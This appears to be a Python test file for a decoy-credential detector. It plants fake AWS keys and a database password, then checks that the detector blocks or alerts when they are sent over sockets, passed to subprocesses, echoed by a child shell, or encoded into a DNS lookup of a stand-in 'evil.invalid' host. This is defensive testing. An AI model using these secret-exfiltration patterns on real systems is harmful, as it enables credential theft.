"""Decoy values: whoever uses one has read what nothing in the function needs."""

from __future__ import annotations

import os
import subprocess
import sys
import unittest

from hooked import HookedTestCase, Run
from policy_encoder import Decoy, Policy
from runtime_api import RuntimeAPI

KEY = "AKIAQ3EGRZ7UEXAMPLE5"
SECRET = "pVvD0mZq2gT5yJ7kLw9xN1rB4sF6hE8uC3aXoYtI"
DECOYS = [Decoy("AWS_ACCESS_KEY_ID", KEY), Decoy("DB_PASSWORD", SECRET, replaces=False, planted=True)]

SERVER = """
import socket, sys, threading
server = socket.create_server(("127.0.0.1", 0))
def take():
    peer = server.accept()[0]
    while peer.recv(1 << 20): pass
threading.Thread(target=take, daemon=True).start()
s = socket.create_connection(server.getsockname())
"""
ATTEMPT = """
def attempt(f, *a):
    try: f(*a); print("sent")
    except OSError as e: print("denied" if e.errno == 13 else e)
"""


class ValueTests(HookedTestCase):
    def honeypots(self, code: str, mode: str, *arguments: str, **fields: object) -> Run:
        policy = Policy(modes={"honeypots": mode}, decoys=DECOYS, **fields)
        return self.python(code, policy, *arguments, SENT=f"key={KEY}&x", DB_PASSWORD=SECRET)

    def test_what_is_sent_in_the_open_is_searched(self) -> None:
        code = SERVER + ATTEMPT + """
import os
data = os.environ["SENT"].encode()
attempt(s.sendall, data)
attempt(os.write, s.fileno(), b"x" * 60000 + data)
attempt(os.writev, s.fileno(), [b"x", data])
attempt(s.sendmsg, [b"a", data])
attempt(s.sendall, b"x" * 65536 + data)
attempt(s.sendall, data[:-4])
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
attempt(u.sendto, data, ("127.0.0.1", 9))
"""
        run = self.honeypots(code, "block")
        self.assertEqual(run.output.split(), "denied denied denied denied sent sent denied".split(), run.errors)
        self.assertEqual(run.reasons(), ["decoy-value"] * 5)
        self.assertEqual({event["unmapped"]["parapet"]["detail"] for event in run.events}, {"AWS_ACCESS_KEY_ID"})
        self.assertNotIn(KEY, str(run.events))
        run = self.honeypots(code, "alert")
        self.assertEqual(set(run.output.split()), {"sent"})
        self.assertEqual(len(run.events), 5)

    def test_files_and_pipes_are_nobodys_business(self) -> None:
        code = "import os, sys; print(os.environ['SENT']); open(sys.argv[1], 'w').write(os.environ['SENT'])"
        run = self.honeypots(code, "block", str(self.folder / "x"))
        self.assertEqual((run.output.strip(), run.events), (f"key={KEY}&x", []))

    def test_arguments_and_variables_of_programs_are_searched(self) -> None:
        code = ATTEMPT + """
import os, subprocess
key = os.environ["SENT"]
attempt(subprocess.run, ["true", key])
attempt(lambda: subprocess.run(["true"], env={"X": key}))
attempt(lambda: subprocess.run(["true"], env={"DB_PASSWORD": os.environ["DB_PASSWORD"]}))
"""
        run = self.honeypots(code, "block")
        self.assertEqual(run.output.split(), ["denied", "denied", "sent"], run.errors)
        # Once for each folder of PATH that has the program.
        self.assertEqual(set(run.reasons()), {"decoy-value"})

    def test_names_are_searched(self) -> None:
        code = f"import socket\ntry: socket.getaddrinfo('{KEY.lower()}.evil.invalid', 1)\nexcept OSError as e: print(e.errno)"
        run = self.honeypots(code, "block")
        self.assertEqual((run.output.strip(), run.reasons()), ("-4", ["decoy-value"]))

    def test_children_are_searched_although_they_never_connected(self) -> None:
        code = SERVER + "import subprocess; print(subprocess.run(['sh', '-c', 'echo $DB_PASSWORD'], stdout=s.fileno(),"
        code += "env={k: v for k, v in os.environ.items() if k != 'SENT'}).returncode)"
        run = self.honeypots("import os\n" + code, "block")
        self.assertEqual(run.reasons(), ["decoy-value"], run.errors)

    def test_a_decoy_in_the_answer_of_the_function_is_noticed(self) -> None:
        code = """
import http.client, os
api = http.client.HTTPConnection(os.environ["AWS_LAMBDA_RUNTIME_API"])
api.request("GET", "/2018-06-01/runtime/invocation/next")
answer = api.getresponse()
answer.read()
request = answer.headers["Lambda-Runtime-Aws-Request-Id"]
api.request("POST", f"/2018-06-01/runtime/invocation/{request}/response", os.environ["SENT"])
print(api.getresponse().status)
"""
        for mode in ("alert", "block"):
            with self.subTest(mode), RuntimeAPI(["request-1"]) as api:
                policy = Policy(modes={"honeypots": mode}, decoys=DECOYS)
                run = self.python(code, policy, SENT=f'{{"k": "{KEY}"}}', AWS_LAMBDA_RUNTIME_API=api.address)
                self.assertEqual(run.reasons(), ["decoy-value"], run.errors)
                self.assertEqual(run.decisions(), {"alerted"})
                self.assertEqual(run.events[0]["metadata"]["correlation_uid"], "request-1")
                # The answer itself leaves: there is nothing real in a decoy.
                self.assertEqual(run.output, "202\n")


if __name__ == "__main__":
    unittest.main()
